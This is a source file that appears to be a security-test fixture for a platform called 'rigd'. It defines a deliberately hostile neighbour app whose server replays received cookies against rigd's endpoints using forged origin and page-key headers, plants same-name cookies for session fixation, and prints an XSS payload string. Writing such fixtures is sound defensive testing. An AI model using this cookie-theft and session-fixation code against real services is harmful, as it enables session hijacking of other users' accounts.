/**
 * An app that wishes ill to the platform it runs on, at another port of the same host: it keeps every cookie that
 * comes to it, tries them on rigd, and has pages that do what a page can.
 */
export const attackingApp = {
  'package.json': JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { start: 'node server.js' } }),
  'server.js': `
const http = require('node:http');

const ask = (port, method, path, headers, body) =>
  new Promise((resolve) => {
    const call = http.request({ host: '127.0.0.1', port, method, path, headers }, (answer) => {
      let text = '';
      answer.on('data', (chunk) => { text += chunk; });
      answer.on('end', () => resolve(answer.statusCode + ' ' + text.slice(0, 200)));
    });
    call.on('error', (error) => resolve('error ' + error.message));
    call.end(body);
  });

console.log('<img src=x onerror="globalThis.owned=true"><script>globalThis.owned=true</script>');
http.createServer(async (request, response) => {
  const url = new URL(request.url, 'http://app');
  const rigd = Number(url.searchParams.get('rigd'));
  const cookie = request.headers.cookie ?? '';
  response.setHeader('content-type', 'text/html');
  if (url.pathname === '/v1/steal') {
    const own = { origin: 'http://127.0.0.1:' + rigd, 'sec-fetch-site': 'same-origin', cookie };
    const tried = [
      await ask(rigd, 'GET', '/v1/whoami', { cookie }),
      await ask(rigd, 'GET', '/v1/whoami', { ...own, 'x-rig-page-key': '' }),
      await ask(rigd, 'GET', '/v1/whoami', { ...own, 'x-rig-page-key': cookie.split('=')[1] ?? '' }),
      await ask(rigd, 'POST', '/v1/tickets', { ...own, 'content-type': 'application/json' }, '{"channel":"logs"}'),
      await ask(rigd, 'POST', '/v1/logout', own),
      await ask(rigd, 'POST', '/v1/browser-logins', own),
      await ask(rigd, 'GET', '/v1/status', { ...own, authorization: 'Bearer ' + (cookie.split('=')[1] ?? '') }),
    ];
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify({ cookie, tried }));
    return;
  }
  if (url.pathname === '/fix') {
    // A cookie of the same name, as an app on the host can set it.
    const value = url.searchParams.get('value');
    response.setHeader('set-cookie', [
      'rig_session_' + rigd + '=' + value + '; Path=/v1',
      'rig_session_' + rigd + '=' + value + '; Path=/v1/whoami',
    ]);
    response.end('<p>fixed');
    return;
  }
  response.end('<!doctype html><p>An app.');
}).listen(process.env.PORT);
`,
};
